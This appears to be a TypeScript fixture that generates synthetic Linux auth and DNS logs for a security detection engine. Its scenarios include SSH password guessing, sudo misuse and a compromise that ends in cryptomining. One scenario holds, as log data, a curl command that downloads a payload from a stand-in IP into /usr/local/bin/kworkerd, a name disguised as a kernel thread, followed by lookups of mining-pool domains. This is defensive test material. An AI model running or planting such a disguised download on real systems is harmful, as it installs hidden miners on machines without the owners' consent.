import {
  addedToGroup,
  sshAccepted,
  sshFailed,
  sudoCommand,
  sudoFailed,
} from '../../modules/rules/builtin/logs/auth-log.ts'
import { dnsLog } from '../../modules/rules/builtin/logs/dns-log.ts'
import { ADMINISTRATORS, PEOPLE, SERVERS, strangerAddress } from '../company.ts'
import type { Scene, Story } from './story.ts'

const USERS = ['root', 'admin', 'ubuntu', 'postgres', 'oracle', 'git', 'deploy', 'test']

function guess(scene: Scene, count: number) {
  const { random } = scene
  const origin = { host: random.pick(SERVERS), pid: random.int(900, 60_000) }
  const ip = strangerAddress(random)
  scene.repeat(count, 3, (at, index) =>
    sshFailed(at, origin, random.pick(USERS), ip, 33_000 + index, random.chance(0.5)),
  )
  return { origin, ip }
}

export const LINUX_STORIES: readonly Story[] = [
  { name: 'somebody guesses SSH passwords', perDay: 9, tell: (scene) => void guess(scene, scene.random.int(22, 45)) },
  {
    name: 'somebody guesses SSH passwords for long',
    perDay: 3,
    tell: (scene) => void guess(scene, scene.random.int(65, 90)),
  },
  {
    name: 'a guessed password ends in a miner',
    perDay: 0.7,
    tell(scene) {
      const { origin, ip } = guess(scene, scene.random.int(14, 30))
      const client = `10.20.1.${scene.random.int(10, 40)}`
      scene
        .log((at) => sshAccepted(at, origin, 'deploy', ip, 40_022))
        .wait(20)
        .log((at) =>
          sudoCommand(at, origin, 'deploy', '/usr/bin/curl -o /usr/local/bin/kworkerd http://203.0.113.88/k'),
        )
        .wait(15)
        .repeat(14, 20, (at) => dnsLog(at, { client, name: 'xmr-eu1.nanopool.org', answer: '203.0.113.89' }))
    },
  },
  {
    name: 'a workstation asks for a mining pool',
    perDay: 1,
    tell(scene) {
      const client = `10.20.4.${scene.random.int(20, 43)}`
      scene.repeat(scene.random.int(1, 4), 15, (at) =>
        dnsLog(at, { client, name: 'pool.supportxmr.com', answer: '198.51.100.88' }),
      )
    },
  },
  {
    name: 'somebody forgets the sudo password',
    perDay: 2,
    tell(scene) {
      const origin = { host: scene.random.pick(SERVERS), pid: scene.random.int(900, 60_000) }
      const { handle } = scene.random.pick(ADMINISTRATORS)
      scene
        .repeat(scene.random.int(5, 8), 6, (at) => sudoFailed(at, origin, handle))
        .log((at) => sudoCommand(at, origin, handle, '/usr/bin/systemctl restart nginx'))
    },
  },
  {
    name: 'a new member of sudo',
    perDay: 1,
    tell(scene) {
      const origin = { host: scene.random.pick(SERVERS), pid: scene.random.int(900, 60_000) }
      const { handle } = scene.random.pick(PEOPLE)
      if (scene.random.chance(0.35)) scene.repeat(4, 7, (at) => sudoFailed(at, origin, handle))
      scene.log((at) => addedToGroup(at, origin, handle, 'sudo'))
    },
  },
]
